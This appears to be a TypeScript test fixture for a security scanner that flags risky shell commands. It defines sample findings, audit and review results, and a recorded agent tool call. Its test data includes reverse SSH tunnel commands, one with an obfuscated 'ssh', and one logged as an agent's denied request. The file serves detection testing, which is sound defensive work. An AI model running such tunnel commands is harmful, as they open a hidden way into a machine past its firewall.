/** Results made by hand for the tests of the formats. */

import type { Finding } from "../../../extension/core/base/finding.ts";
import { range } from "../../../extension/core/base/range.ts";
import type { ActionsResult, AuditResult, ReviewResult, RuleSummary } from "../../../extension/core/report/result.ts";
import { emptyDelta } from "../../../extension/core/review/capability-delta.ts";
import type { Action } from "../../../extension/core/session/action.ts";

export const script = "#!/bin/bash\nset -e\ntimeout 9 s\\sh -fNR 9:localhost:22 u@h &\n";

export const tunnel: Finding = {
  rule: "command/reverse-ssh-tunnel",
  category: "tunnel",
  severity: "critical",
  confidence: "high",
  message: "opens a reverse tunnel: h can reach localhost:22 on its port 9",
  path: "scripts/warm.sh",
  range: range(2, 10, 2, 39),
  related: [{ path: "lib/env.sh", range: range(3, 0, 3, 8), message: "the host is set here" }],
  canonical: "ssh -N -R=9:localhost:22 -f -- u@h",
  via: ["timeout"],
  labels: { attack: ["T1572"], cwe: ["CWE-506"] },
  fingerprint: "1:00ff:0",
};

export const probe: Finding = {
  rule: "command/network-probe",
  category: "network-scan",
  severity: "medium",
  confidence: "medium",
  message: "probes a network",
  path: "a.sh",
  range: range(0, 0, 0, 4),
  related: [],
  via: [],
  labels: {},
  fingerprint: "1:01:0",
};

export const listens: Finding = {
  ...probe,
  rule: "command/listens",
  category: "capability",
  severity: "info",
  message: "listens on a port",
};

export const rules: Readonly<Record<string, RuleSummary>> = {
  [tunnel.rule]: {
    title: "Reverse SSH tunnel",
    why: "Somebody outside can come in through it, past every firewall.",
    advice: "Ask who needs it, and remove it if nobody does.",
    page: "# Reverse SSH tunnel\n",
  },
};

const stats = { files: 2, coverage: { full: 2, partial: 0, none: 0 }, skipped: {} };

export const audit: AuditResult = { verdict: "attention", findings: [probe, tunnel], suppressed: [], problems: [], stats };

export const nothing: AuditResult = { verdict: "pass", findings: [], suppressed: [], problems: [], stats };

export const review: ReviewResult = {
  ...audit,
  findings: [
    { ...tunnel, state: "new" },
    { ...probe, state: "existing" },
    { ...probe, path: "old.sh", state: "fixed" },
  ],
  change: {
    base: { name: "origin/main", commit: "0123456789abcdef0123456789abcdef01234567", chosen: "Where the branch left its upstream." },
    head: { name: "the working tree", chosen: "It differs from HEAD." },
    files: [
      { path: "scripts/warm.sh", status: "added", added: 3, removed: 0 },
      { path: "b.sh", oldPath: "old.sh", status: "renamed", added: 0, removed: 1 },
    ],
  },
  units: [],
  capabilities: emptyDelta,
  identity: [],
  actions: [],
};

export const denied: Action = {
  id: "s1:1",
  kind: "shell",
  agent: { name: "claude-code", version: "2.0.1" },
  session: { id: "s1", cwd: "/work" },
  path: "session.jsonl",
  range: range(4, 0, 4, 200),
  call: { id: "toolu_1", tool: "Bash", requestedAt: "2026-01-02T03:04:05Z" },
  shell: { text: "ssh -R 9:localhost:22 u@h", dialect: "posix" },
  file: { path: "/x", before: "secret", after: "secret" },
  decision: { by: "user", verdict: "deny" },
  status: "denied",
  evidence: "self-reported-result",
};

export const actions: ActionsResult = {
  ...audit,
  findings: [
    {
      ...tunnel,
      path: "session.jsonl",
      range: range(4, 90, 4, 120),
      action: { id: "s1:1", range: range(0, 0, 0, 25) },
      via: [],
      related: [],
    },
  ],
  sessions: [{ path: "session.jsonl", format: "claude-code", actions: 1 }],
  actions: [denied],
};
